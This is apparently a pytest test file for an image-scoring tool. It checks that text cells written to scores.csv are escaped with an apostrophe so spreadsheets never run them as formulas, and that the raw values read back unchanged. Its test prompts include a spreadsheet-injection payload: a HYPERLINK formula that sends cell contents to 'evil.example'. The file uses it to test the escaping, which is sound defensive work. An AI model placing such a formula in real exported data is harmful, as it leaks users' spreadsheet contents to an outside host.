"""scores.csv never hands a spreadsheet a formula: text cells that start with = + - @ (tab, CR)
get a leading apostrophe; lenscore reads the raw text back exactly; summary.json keeps prompts raw."""

from __future__ import annotations

import csv
import json

import numpy as np
from hypothesis import given
from hypothesis import strategies as st

from lenscore.cli import run_cli
from lenscore.evaluator.cells import FORMULA_START, neutralise, restore
from lenscore.reports.aggregate import read_scores

from conftest import write_png

PROMPTS = ['=HYPERLINK("http://evil.example/?leak="&A1,"portrait")', "+1+1 cinematic",
           "-ve prompt first", "@SUM(A1:A9)", "-1+2", "'=already quoted",
           "'quoted' portrait", "plain 85mm portrait"]


@given(st.text())
def test_neutralising_is_exactly_reversible(text):
    assert restore(neutralise(text)) == text


@given(st.text(min_size=1))
def test_no_written_text_cell_starts_a_formula(text):
    out = neutralise(text)
    if out[0] in FORMULA_START:
        float(out)  # only a plain number may start with + or -


def test_tab_and_carriage_return_starts_are_neutralised_too():
    assert neutralise("\tx") == "'\tx" and neutralise("\rx") == "'\rx"


def test_numbers_and_harmless_text_are_left_alone():
    for v in ("-1", "+3", "-0.5", "1e-3", "85mm", "'quoted'", "'", ""):
        assert neutralise(v) == v


def test_scores_csv_cells_are_neutralised_and_read_back_raw(tmp_path):
    rows = []
    for i, prompt in enumerate(PROMPTS):
        name = "=cmd.png" if i == 0 else f"{i}.png"
        write_png(tmp_path / name, np.full((12, 12, 3), 20 * i, np.uint8))
        rows.append({"path": name, "variant": "@v" if i % 2 else "v", "prompt": prompt,
                     "seed": str(-i), "note": "-x"})
    manifest = tmp_path / "m.csv"
    with open(manifest, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    out = tmp_path / "out"
    args = ["score", "--manifest", str(manifest), "-o", str(out), "-f", "focus", "-j", "1",
            "--no-cache", "--extra-columns", "note"]
    assert run_cli(args) == 0
    with open(out / "scores.csv", newline="", encoding="utf-8") as fh:
        written = list(csv.DictReader(fh))
    for row in written:  # what a spreadsheet sees
        for col in ("path", "variant", "prompt", "note"):
            assert row[col][:1] not in FORMULA_START, (col, row[col])
    assert written[0]["path"] == "'=cmd.png" and written[3]["seed"] == "-3"
    assert written[5]["prompt"] == "''=already quoted" and written[6]["prompt"] == "'quoted' portrait"
    df = read_scores(out / "scores.csv")  # what lenscore works on: the raw text
    assert list(df["prompt"]) == PROMPTS
    assert list(df["path"]) == [r["path"] for r in rows]
    assert list(df["variant"]) == [r["variant"] for r in rows]
    assert set(df["note"]) == {"-x"}
    summary = json.loads((out / "summary.json").read_text())
    assert summary["variants"]["v"]["prompts"] == PROMPTS[0::2]
    assert "apostrophe" in summary["scores_csv"]
    # --resume recognises the finished rows by their raw paths: nothing is scored twice
    assert run_cli([*args, "--resume"]) == 0
    assert len(read_scores(out / "scores.csv")) == len(PROMPTS)
